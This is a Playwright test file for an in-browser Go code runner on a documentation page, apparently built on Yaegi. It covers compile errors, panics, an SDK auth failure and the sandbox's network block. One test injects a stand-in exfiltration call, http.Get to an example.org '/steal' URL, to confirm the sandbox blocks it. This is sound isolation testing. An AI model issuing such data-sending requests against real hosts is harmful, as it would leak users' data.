import { expect, test, type RunnerPage } from './runnerPage';

/**
 * Go in the page (Yaegi in the runner's worker), beyond every example's run in examples.spec.ts:
 * errors at the reader's own line, the sandbox's network wall, Stop and the time limit, and the
 * output caps, as for TypeScript in runner.spec.ts.
 */
const fetchToken = { page: '/docs/client-credentials', id: 'client-credentials/fetch-token' };

async function openGo(
  {
    site,
    runnerFor,
  }: { site: { goto(path: string): Promise<void> }; runnerFor: (id: string) => RunnerPage },
  where = fetchToken,
): Promise<RunnerPage> {
  await site.goto(where.page);
  const runner = runnerFor(where.id);
  await runner.chooseLanguage('Go');
  return runner;
}

const program = (body: string, imports = ['fmt']) =>
  `package main\n\nimport (\n${imports.map((name) => `\t"${name}"\n`).join('')})\n\nfunc main() {\n${body}\n}\n`;

test.describe('Go in the page', () => {
  // The first run of a page downloads and starts the runtime; the machine may be shared and busy.
  test.describe.configure({ timeout: 120_000 });

  test('a compile error shows its line and column, and nothing runs', async ({
    site,
    runnerFor,
  }) => {
    const runner = await openGo({ site, runnerFor });
    await runner.replaceCode(program('\tfmt.Println("this must not print")\n\tfmt.Println(x'));
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(
      /^Syntax error on line (9|10), column \d+: .*Nothing ran\.$/,
    );
    expect(await runner.consoleLines()).toEqual([]);
    await expect(runner.output).toContainText('HTTP traffic (0 exchanges)');
  });

  test("a panic is reported in the snippet's own function, after the output before it", async ({
    site,
    runnerFor,
  }) => {
    const runner = await openGo({ site, runnerFor });
    await runner.replaceCode(
      program('\tfmt.Println("before")\n\tvar items []int\n\tfmt.Println(items[3])'),
    );
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(
      // Yaegi's words for Go's "index out of range [3] with length 0"; it names the function,
      // not the line (describeGoError.ts).
      /^Failed after .*: panic: reflect: slice index out of range \(in main\)$/,
    );
    const lines = await runner.consoleLines();
    expect(lines[0]).toBe('before');
    expect(lines).toContain('panic: reflect: slice index out of range');
  });

  test('an SDK error the snippet logs with log.Fatalln ends the run at that line with exit status 1', async ({
    site,
    runnerFor,
  }) => {
    const runner = await openGo({ site, runnerFor });
    await runner.replaceCode(
      program(
        [
          '\tclient := sdk.NewClient(sdk.CreateConfiguration(sdk.WithClientCredentialsAuthCredentials(',
          '\t\tsdk.NewClientCredentialsAuthCredentials("OAuthClientId", "wrong"))))',
          '\t_, err := client.ClientCredentialsAuthManager().FetchToken(context.Background())',
          '\tlog.Fatalln(err)',
        ].join('\n'),
        ['context', 'log', 'sdk'],
      ),
    );
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(
      /^Failed after .*: log\.Fatal on line 13: .*invalid_client/,
    );
    await expect(runner.http).toContainText('401 Unauthorized');
  });

  test('a request to a real host fails with the URL named, and never leaves the page', async ({
    site,
    runnerFor,
    page,
  }) => {
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith('http://127.0.0.1')) outside.push(request.url());
    });
    const runner = await openGo({ site, runnerFor });
    await runner.replaceCode(
      program(
        '\t_, err := http.Get("https://www.example.org/steal?x=1")\n\tfmt.Println("error:", err)',
        ['fmt', 'net/http'],
      ),
    );
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(/^Finished/);
    const lines = await runner.consoleLines();
    expect(lines.join('\n')).toMatch(
      /^error: .*GET https:\/\/www\.example\.org\/steal\?x=1 was blocked: the sandbox has no network access/,
    );
    await expect(runner.http).toContainText('GET https://www.example.org/steal?x=1 blocked');
    expect(outside).toEqual([]);
  });
});
